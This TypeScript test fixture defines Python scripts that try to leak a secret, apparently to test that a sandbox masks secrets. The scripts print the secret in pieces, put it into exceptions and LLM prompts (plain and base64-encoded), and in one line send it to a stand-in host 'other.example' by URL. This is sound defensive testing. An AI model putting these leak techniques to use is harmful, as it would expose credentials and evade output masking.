import { secret } from './leaks.ts'

/** The start of a Python script that has the secret in its own code. */
export const knownInPython = `
import base64, sys, urllib.parse, urllib.request
value = ''.join(map(chr, [${[...secret].map((sign) => sign.charCodeAt(0)).join(', ')}]))
`

/**
 * Scripts in Python that try to leak `value` in the ways that a runtime or the guest's module decides, by name. Masking is
 * the same as for scripts in JavaScript, which also try each form of a text.
 */
export const pythonWays: readonly (readonly [name: string, code: string])[] = [
  [
    'prints and returns it',
    `
def way(name):
    print('way', name, flush=True)
    print('way', name, file=sys.stderr, flush=True)
print(value)
way('letter by letter')
for letter in value:
    print(letter)
way('without line ends')
for letter in value:
    print(letter, end='', flush=True)
print()
way('in pieces')
for at in range(0, len(value), 5):
    sys.stderr.write(value[at:at + 5])
    sys.stderr.flush()
print(file=sys.stderr)
way('in turns')
for at, letter in enumerate(value):
    print(letter, file=sys.stderr if at % 2 else sys.stdout)
way('as representation')
print(repr({'a': [value]}))
way('in the error of a setting')
try:
    settings.get(value)
except Exception as error:
    print(error)
way('last')
set_result({value: [value]})`,
  ],
  [
    'asks the model about it, and prints it around a pause',
    `
print(value[:14])
set_result(llm.complete('What of ' + value + '?'))
print(value[14:])
llm.complete(base64.b64encode(value.encode()).decode())`,
  ],
  [
    'raises an error with it as its name, text, note and cause',
    `
error = type('E' + value.encode().hex(), (Exception,), {})(value)
error.add_note(value)
raise error from ValueError(value)`,
  ],
  ['exits with it as the message', 'sys.exit(value)'],
  [
    'sends it to an undeclared host',
    'urllib.request.urlopen("https://other.example/?q=" + urllib.parse.quote(value, safe=""))',
  ],
]
